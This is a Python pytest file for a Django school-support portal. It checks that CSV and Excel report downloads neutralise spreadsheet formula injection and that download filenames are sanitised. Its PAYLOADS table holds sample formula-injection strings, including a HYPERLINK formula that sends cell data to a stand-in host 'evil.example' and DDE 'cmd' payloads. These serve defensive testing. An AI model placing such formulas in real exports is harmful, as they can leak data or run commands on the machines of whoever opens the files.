"""Downloads a spreadsheet opens never run what somebody typed (issue 13, finding 2)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from gigaportal.reports import Report, ReportColumn, csv_bytes, xlsx_bytes
from gigaportal.reports.tables import content_disposition
from tests.support.factories import make_record

PAYLOADS = {
    "=": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


def _report(text: str) -> Report:
    return Report(
        title="test",
        columns=[ReportColumn("text", "内容"), ReportColumn("n", "件数", numeric=True)],
        rows=[(text, -2), ("普通の文", Decimal("-1.5"))],
    )


def _csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("prefix", PAYLOADS)
def test_a_csv_cell_starting_like_a_formula_is_quoted_as_text(prefix):
    rows = _csv_rows(csv_bytes(_report(PAYLOADS[prefix])))
    assert rows[1][0] == "'" + PAYLOADS[prefix]
    # Numbers stay numbers, negative ones included, and plain text is untouched.
    assert rows[1][1] == "-2"
    assert rows[2] == ["普通の文", "-1.5"]


@pytest.mark.parametrize("prefix", PAYLOADS)
def test_an_excel_cell_starting_like_a_formula_is_a_string_cell(prefix):
    sheet = load_workbook(io.BytesIO(xlsx_bytes(_report(PAYLOADS[prefix])))).active
    cell = sheet.cell(2, 1)
    assert cell.data_type == "s"
    # XML reads a CR back as a line feed; the text is otherwise as typed.
    assert cell.value.replace("\n", "\r") == PAYLOADS[prefix]
    number = sheet.cell(2, 2)
    assert number.data_type == "n" and number.value == -2
    assert sheet.cell(3, 2).value == -1.5


def test_a_column_header_from_data_is_made_safe_too():
    report = Report(title="t", columns=[ReportColumn("x", "=1+1")], rows=[(1,)])
    assert _csv_rows(csv_bytes(report))[0] == ["'=1+1"]
    sheet = load_workbook(io.BytesIO(xlsx_bytes(report))).active
    assert sheet.cell(1, 1).data_type == "s" and sheet.cell(1, 1).value == "=1+1"


@pytest.mark.django_db
@pytest.mark.parametrize("prefix", PAYLOADS)
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_school_user_downloads_their_history_with_every_formula_as_text(
    client, school_a, school_a_user, support_staff, prefix, fmt
):
    payload = PAYLOADS[prefix]
    make_record(school=school_a, staff=support_staff, what_was_done=payload)
    client.force_login(school_a_user)
    url = reverse("support:school_history", args=[school_a.pk]) + f"?download={fmt}&fy=all"
    response = client.get(url)
    assert response.status_code == 200
    if fmt == "csv":
        cells = [row[-1] for row in _csv_rows(response.content)[1:]]
        assert cells == ["'" + payload]
    else:
        sheet = load_workbook(io.BytesIO(response.content)).active
        cell = sheet.cell(2, sheet.max_column)
        assert cell.data_type == "s" and cell.value.replace("\n", "\r") == payload


def test_the_download_name_is_ascii_with_the_real_name_in_filename_star():
    header = content_disposition('support-history-RT"X6.csv')
    assert header == (
        'attachment; filename="support-history-RT_X6.csv"; '
        "filename*=UTF-8''support-history-RT%22X6.csv"
    )
    japanese = content_disposition("青葉小学校.xlsx")
    assert japanese.startswith("attachment; filename=\"download.xlsx\"; filename*=UTF-8''%E9%9D%92")
